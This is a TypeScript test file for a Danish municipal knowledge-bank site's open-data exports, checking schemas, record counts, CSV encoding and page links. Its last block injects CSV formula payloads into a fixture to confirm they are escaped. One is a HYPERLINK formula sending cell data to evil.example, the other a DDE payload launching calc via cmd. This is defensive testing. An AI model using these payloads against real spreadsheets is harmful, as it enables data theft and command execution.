// The open-data downloads in the real build: each validates against the JSON Schema published
// beside it (ajv), has exactly one record per content entry (counted here from the files, not
// through src/), reads back from CSV with æ/ø/å intact, and links each record to a built page.
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CONTENT, DIST, contentEntries, page } from '../helpers/dist';
import { validate } from '../helpers/json-schema-validator';
import { buildFixture } from '../helpers/fixture-site';
import { fixtureText } from '../helpers/fixture-text';

type Row = Record<string, unknown>;
const NAMES = ['kommuner', 'indsatser', 'strategier', 'indgange', 'interviewsvar'] as const;
const read = (file: string) => readFileSync(path.join(DIST, 'data', file), 'utf8');
const json = (name: string) => JSON.parse(read(`${name}.json`)) as Row[];
const published = (folder: string) => [...contentEntries(folder)].filter(([, d]) => d['draft'] !== true);
const ORIGIN = 'https://vidensbank.example.dk/';

/** What each download must hold, one key per record, worked out from content/ directly. */
function expectedKeys(name: (typeof NAMES)[number]): { keys: string[]; keyOf: (r: Row) => string } {
  switch (name) {
    case 'kommuner': {
      const codes = readFileSync(path.join(CONTENT, 'data/kommuner.csv'), 'utf8')
        .trim()
        .split('\n')
        .slice(1)
        .map((l) => l.split(',')[0]!);
      return { keys: codes, keyOf: (r) => String(r['code']) };
    }
    case 'indsatser':
      return { keys: published('indsatser').map(([id]) => id), keyOf: (r) => String(r['id']) };
    case 'strategier':
      return { keys: published('strategier').map(([id]) => id), keyOf: (r) => String(r['id']) };
    case 'indgange':
      return {
        keys: published('indgange').map(([, d]) => String(d['municipality'])),
        keyOf: (r) => String(r['url']).replace(/^.*\/kommuner\/([^/]+)\/.*$/, '$1'),
      };
    case 'interviewsvar':
      return {
        keys: published('interviews').flatMap(([id]) =>
          [...readFileSync(path.join(CONTENT, 'interviews', `${id}.mdx`), 'utf8').matchAll(/<Answer\s+question="([^"]+)"/g)].map((m) => `${id}#${m[1]}`),
        ),
        keyOf: (r) => `${String(r['interview'])}#${String(r['question'])}`,
      };
  }
}

/** A JSON value as its CSV cell reads: text a spreadsheet would run as a formula gets a leading `'` (OWASP). */
function cell(value: unknown): string {
  if (value === undefined || value === null) return '';
  const text = Array.isArray(value)
    ? value.join(', ')
    : typeof value === 'boolean'
      ? value
        ? 'ja'
        : 'nej'
      : typeof value === 'string'
        ? value
        : JSON.stringify(value);
  return typeof value !== 'number' && /^ *[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

describe.each(NAMES)('/data/%s', (name) => {
  const rows = json(name);

  it('validates against its JSON Schema, published beside it', () => {
    const schema = JSON.parse(read(`${name}.schema.json`)) as Row;
    expect(schema['$id']).toBe(`${ORIGIN}data/${name}.schema.json`);
    expect(validate(schema, rows)).toEqual([]);
    const properties = (schema['items'] as { properties: Record<string, { description?: string }> }).properties;
    expect(
      Object.entries(properties)
        .filter(([, p]) => !p.description)
        .map(([k]) => k),
      'fields without a Danish description',
    ).toEqual([]);
  });

  it('has exactly one record per entry', () => {
    const { keys, keyOf } = expectedKeys(name);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.map(keyOf).sort()).toEqual([...keys].sort());
  });

  it('reads back from CSV (UTF-8 with BOM, ;) with the same values and æ/ø/å intact', () => {
    const raw = readFileSync(path.join(DIST, 'data', `${name}.csv`));
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = parse<Record<string, string>>(raw.toString('utf8'), { bom: true, delimiter: ';', columns: true });
    expect(csv).toHaveLength(rows.length);
    rows.forEach((row, i) => {
      for (const [key, value] of Object.entries(row)) {
        if (key === 'targets' || key === 'documents') continue;
        expect(csv[i]![key], `${name}.csv row ${i + 1}, ${key}`).toBe(cell(value));
      }
      for (const key of ['factsAsOf', 'since', 'date']) if (csv[i]![key]) expect(csv[i]![key]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    });
  });

  it('links each record to a built page (and its #fragment)', () => {
    for (const row of rows) {
      if (row['url'] === undefined) continue;
      const url = new URL(row['url'] as string);
      expect(url.origin + '/').toBe(ORIGIN);
      const sitePath = url.pathname.slice(1);
      expect(existsSync(path.join(DIST, sitePath, 'index.html')), sitePath).toBe(true);
      if (url.hash) expect(page(sitePath).getElementById(url.hash.slice(1)), `${sitePath}${url.hash}`).not.toBeNull();
    }
  });
});

describe('the open data, overall', () => {
  it('keeps Danish letters in names (København, Ærø, Brøndby, Tårnby)', () => {
    const csv = parse<Record<string, string>>(read('kommuner.csv'), { bom: true, delimiter: ';', columns: true });
    const names = csv.map((r) => r['name']);
    for (const n of ['København', 'Ærø', 'Brøndby', 'Tårnby']) expect(names).toContain(n);
    expect(csv.find((r) => r['name'] === 'København')!['code']).toBe('0101');
  });

  it('is documented on /data/: every file linked, every field listed, licence and how current', () => {
    const doc = page('data/');
    const links = new Set(doc.querySelectorAll('a[href]').map((a) => a.getAttribute('href')));
    for (const name of NAMES) {
      for (const ext of ['json', 'csv', 'schema.json']) expect(links.has(`/data/${name}.${ext}`), `${name}.${ext}`).toBe(true);
      const fields = Object.keys((JSON.parse(read(`${name}.schema.json`)) as { items: { properties: object } }).items.properties);
      const listed = doc
        .querySelector(`section[aria-labelledby="${name}"]`)!
        .querySelectorAll('tbody th code')
        .map((c) => c.text);
      expect(listed).toEqual(fields);
    }
    expect(doc.text).toContain('CC BY 4.0');
    expect(doc.querySelector('.facts-age')).not.toBeNull();
  });

  it('is linked from the footer of every page and from the about page', () => {
    expect(page('om/').querySelectorAll('main a[href="/data/"]').length).toBeGreaterThan(0);
    expect(page('kommuner/aalborg/').querySelector('footer a[href="/data/"]')).not.toBeNull();
  });
});

describe('escaping per format, in a fixture build', () => {
  const INITIATIVE = 'content/indsatser/aalborg/startup-cafeer.yaml';
  const original = fixtureText(INITIATIVE);
  const title = '=HYPERLINK("https://evil.example/?"&A1;"Klik")';
  const description = '@SUM(1+1)*cmd|" /C calc"!A0 <b>&amp;</b>';
  const result = buildFixture('open-data-escaping', {
    [INITIATIVE]: original
      .replace(/^title: .*$/m, `title: ${JSON.stringify(title)}`)
      .replace(/^description: .*$/m, `description: ${JSON.stringify(description)}`),
  });
  const file = (name: string) => readFileSync(path.join(result.root, 'dist/data', name), 'utf8');

  it('builds', () => {
    expect(result.status, result.output).toBe(0);
  });

  it('CSV: cells starting like a formula are text with a leading apostrophe', () => {
    const [row] = parse<Record<string, string>>(file('indsatser.csv'), { bom: true, delimiter: ';', columns: true });
    expect(row!['title']).toBe(`'${title}`);
    expect(row!['description']).toBe(`'${description}`);
  });

  it('JSON: the same values exactly, as JSON', () => {
    const [record] = JSON.parse(file('indsatser.json')) as Row[];
    expect(record).toMatchObject({ title, description });
  });
});
